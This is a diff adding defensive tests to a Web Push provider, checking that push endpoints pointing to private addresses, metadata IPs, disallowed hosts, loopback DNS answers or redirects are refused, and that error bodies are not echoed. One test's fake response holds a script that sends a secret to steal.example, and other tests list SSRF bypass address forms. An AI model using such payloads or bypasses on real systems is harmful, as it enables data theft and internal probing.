@@ -13,10 +13,13 @@ import {
 } from '../activities/providers/web-push';
 import type { PushMessage, PushTarget } from '../domain';
 import type { WebPushConfig } from '../lib/config';
+import { DEFAULT_PUSH_ENDPOINT_POLICY, endpointRefusal, hostAllowed, isPrivateAddress, type PushEndpointPolicy } from '../lib/push-endpoints';
 import { logger } from './support/logger';
 import { startFakePushService, type FakePushService, type FakeSubscription } from './fakes/push-service';
 
 const SUBJECT = 'mailto:push-ops@herald.example';
+/** The test-only opt-out (HERALD_WEBPUSH_ALLOWED_HOSTS=127.0.0.1, HERALD_WEBPUSH_ALLOW_PRIVATE=true): the fake listens on loopback. */
+const FAKE_ENDPOINTS: PushEndpointPolicy = { allowedHosts: ['127.0.0.1'], allowPrivate: true };
 
 const target = (sub: Pick<FakeSubscription, 'endpoint' | 'keys'>, deviceId = 'dev-web-1'): WebPushTarget => ({
   deviceId,
@@ -56,7 +59,7 @@ describe('Web Push provider over the wire (fake RFC 8030 push service)', () => {
   const extraServers: net.Server[] = [];
 
   const newProvider = (overrides: Partial<WebPushConfig> = {}) => {
-    const p = createWebPushProvider({ ...vapid, subject: SUBJECT, caFile: push.caFile, ...overrides }, logger);
+    const p = createWebPushProvider({ ...vapid, subject: SUBJECT, caFile: push.caFile, endpoints: FAKE_ENDPOINTS, ...overrides }, logger);
     extraProviders.push(p);
     return p;
   };
@@ -64,7 +67,7 @@ describe('Web Push provider over the wire (fake RFC 8030 push service)', () => {
   beforeAll(async () => {
     push = await startFakePushService();
     vapid = generateVapidKeys();
-    provider = createWebPushProvider({ ...vapid, subject: SUBJECT, caFile: push.caFile }, logger);
+    provider = createWebPushProvider({ ...vapid, subject: SUBJECT, caFile: push.caFile, endpoints: FAKE_ENDPOINTS }, logger);
   });
 
   afterEach(async () => {
@@ -323,6 +326,79 @@ describe('Web Push provider over the wire (fake RFC 8030 push service)', () => {
     expect(push.messages[0]!.plaintext).toBe('hello');
   });
 
+  it('by default contacts only the known push services: a private address or another host is refused before the network', async () => {
+    const sub = push.createSubscription();
+    const strict = newProvider({ endpoints: undefined });
+    const port = new URL(push.url).port;
+    const refusal = (endpoint: string, p: PushProvider = strict) => providerError(() => p.send(target({ ...sub, endpoint }), message(), 'k'));
+
+    for (const endpoint of [sub.endpoint, `https://[::ffff:127.0.0.1]:${port}/push/${sub.id}`, `https://[::1]:${port}/push/${sub.id}`, 'https://169.254.169.254/latest/meta-data/']) {
+      expect(await refusal(endpoint)).toMatchObject({ kind: 'invalid_token', code: 'ENDPOINT_PRIVATE_ADDRESS' });
+    }
+    expect(await refusal('https://evil.example/push/x')).toMatchObject({ kind: 'invalid_token', code: 'ENDPOINT_NOT_ALLOWED', message: 'web push endpoint evil.example is not an allowed push service' });
+    // Allowed by name is not enough: the address is private, and only the opt-out takes that.
+    const allowedOnly = newProvider({ endpoints: { allowedHosts: ['127.0.0.1'], allowPrivate: false } });
+    expect(await refusal(sub.endpoint, allowedOnly)).toMatchObject({ code: 'ENDPOINT_PRIVATE_ADDRESS' });
+    expect(push.requests).toHaveLength(0);
+  });
+
+  it('checks every DNS answer at connect time: an allowed name that resolves to loopback never reaches the push service', async () => {
+    const sub = push.createSubscription();
+    const viaName = `https://localhost:${new URL(push.url).port}/push/${sub.id}`;
+    const strict = newProvider({ endpoints: { allowedHosts: ['localhost'], allowPrivate: false } });
+
+    const err = await providerError(() => strict.send(target({ ...sub, endpoint: viaName }), message(), 'k'));
+    expect(err).toMatchObject({ kind: 'invalid_token', code: 'ENDPOINT_PRIVATE_ADDRESS' });
+    expect(err.message).toMatch(/^web push endpoint localhost resolves to a private address \((127\.0\.0\.1|::1)\)$/);
+    expect(push.requests).toHaveLength(0);
+
+    // The same endpoint with the opt-out does connect (the fake then refuses the VAPID audience): the lookup was the refusal.
+    const optedOut = newProvider({ endpoints: { allowedHosts: ['localhost'], allowPrivate: true } });
+    expect(await providerError(() => optedOut.send(target({ ...sub, endpoint: viaName }), message(), 'k'))).toMatchObject({ code: '401' });
+    expect(push.requests).toHaveLength(1);
+  });
+
+  it('never follows a redirect: a 3xx is a permanent failure and its Location is not contacted', async () => {
+    const sub = push.createSubscription();
+    let connections = 0;
+    const elsewhere = net.createServer((socket) => {
+      connections++;
+      socket.destroy();
+    });
+    extraServers.push(elsewhere);
+    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+    const location = `https://127.0.0.1:${(elsewhere.address() as net.AddressInfo).port}/push/${sub.id}`;
+
+    for (const status of [301, 307, 308]) {
+      push.respondNext(status, { headers: { location } });
+      expect(await providerError(() => provider.send(target(sub), message(), 'k'))).toMatchObject({ kind: 'permanent', code: String(status) });
+    }
+    expect(push.requests.map((r) => r.status)).toEqual([301, 307, 308]);
+    expect(connections).toBe(0);
+  });
+
+  it("keeps the status and the service's documented reason of an error, never its body", async () => {
+    const sub = push.createSubscription();
+    const secret = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc';
+    const page = `<html><head><script>fetch("https://steal.example/?k=${secret}")</script></head><body>${'<p>Authorization: Bearer ' + secret + '</p>\u0000'.repeat(5_000)}</body></html>`;
+
+    push.respondNext(400, { body: page, headers: { 'content-type': 'text/html' } });
+    const html = await providerError(() => provider.send(target(sub), message(), 'k'));
+    push.respondNext(410, { body: JSON.stringify({ reason: 'Unregistered', detail: secret }) });
+    const apple = await providerError(() => provider.send(target(sub), message(), 'k'));
+    push.respondNext(404, { body: JSON.stringify({ code: 404, errno: 102, error: 'Not Found', message: `token ${secret} unknown` }) });
+    const mozilla = await providerError(() => provider.send(target(sub), message(), 'k'));
+    push.respondNext(400, { body: JSON.stringify({ reason: `<script>${secret}</script>` }) });
+    const notAReason = await providerError(() => provider.send(target(sub), message(), 'k'));
+
+    expect([html, apple, mozilla, notAReason].map((e) => [e.code, e.message])).toEqual([
+      ['400', 'push service answered 400'],
+      ['410', 'push service answered 410 (Unregistered)'],
+      ['404', 'push service answered 404 (errno 102)'],
+      ['400', 'push service answered 400'],
+    ]);
+  });
+
   it('refuses a VAPID config whose keys are not one pair, or whose subject is not mailto:/https:', () => {
     const a = generateVapidKeys();
     const b = generateVapidKeys();
@@ -330,5 +406,37 @@ describe('Web Push provider over the wire (fake RFC 8030 push service)', () => {
       /not the public key/,
     );
     expect(() => createWebPushProvider({ ...a, subject: 'ops@herald.example' }, logger)).toThrow(/VAPID config is invalid/);
+  });
+});
+
+describe('Web Push endpoint policy (lib/push-endpoints.ts)', () => {
+  it.each([
+    '127.0.0.1', '127.255.0.9', '10.0.0.1', '172.16.5.4', '172.31.255.255', '192.168.1.1', '169.254.169.254', '100.64.0.1', '100.127.255.254',
+    '0.0.0.0', '224.0.0.251', '255.255.255.255', '::', '::1', 'fc00::1', 'fd12:3456::1', 'fe80::1', 'ff02::1',
+    '::ffff:127.0.0.1', '::ffff:169.254.169.254', '::ffff:a9fe:a9fe', '::ffff:10.1.2.3', '64:ff9b::7f00:1', '::127.0.0.1',
+  ])('%s is private', (address) => {
+    expect(isPrivateAddress(address)).toBe(true);
+  });
+
+  it.each(['142.250.185.74', '8.8.8.8', '100.128.0.1', '172.32.0.1', '2a00:1450:4001:82b::200a', '::ffff:8.8.8.8', 'not-an-ip'])('%s is not', (address) => {
+    expect(isPrivateAddress(address)).toBe(false);
+  });
+
+  it('matches exact hosts and *. suffixes (a suffix pattern does not take its bare domain)', () => {
+    const hosts = DEFAULT_PUSH_ENDPOINT_POLICY.allowedHosts;
+    expect(['fcm.googleapis.com', 'updates.push.services.mozilla.com', 'web.push.apple.com', 'wns2-db5p.notify.windows.com', 'a.b.push.services.mozilla.com'].filter((h) => !hostAllowed(h, hosts))).toEqual([]);
+    expect(['push.apple.com', 'evil.fcm.googleapis.com', 'fcm.googleapis.com.evil.example', 'evilpush.apple.com', 'notify.windows.com'].filter((h) => hostAllowed(h, hosts))).toEqual([]);
+  });
+
+  it('says why an endpoint is refused', () => {
+    const policy = DEFAULT_PUSH_ENDPOINT_POLICY;
+    expect(endpointRefusal('https://fcm.googleapis.com/fcm/send/abc', policy)).toBeUndefined();
+    expect(endpointRefusal('https://FCM.googleapis.com./fcm/send/abc', policy)).toBeUndefined();
+    expect(endpointRefusal('http://fcm.googleapis.com/fcm/send/abc', policy)).toBe('notHttps');
+    expect(endpointRefusal('https://evil.example/x', policy)).toBe('notAllowed');
+    expect(endpointRefusal('https://10.0.0.1/x', policy)).toBe('privateAddress');
+    expect(endpointRefusal('https://2130706433/x', policy)).toBe('privateAddress');
+    expect(endpointRefusal('https://[::1]/x', policy)).toBe('privateAddress');
+    expect(endpointRefusal('https://127.0.0.1/x', { allowedHosts: ['127.0.0.1'], allowPrivate: true })).toBeUndefined();
   });
 });
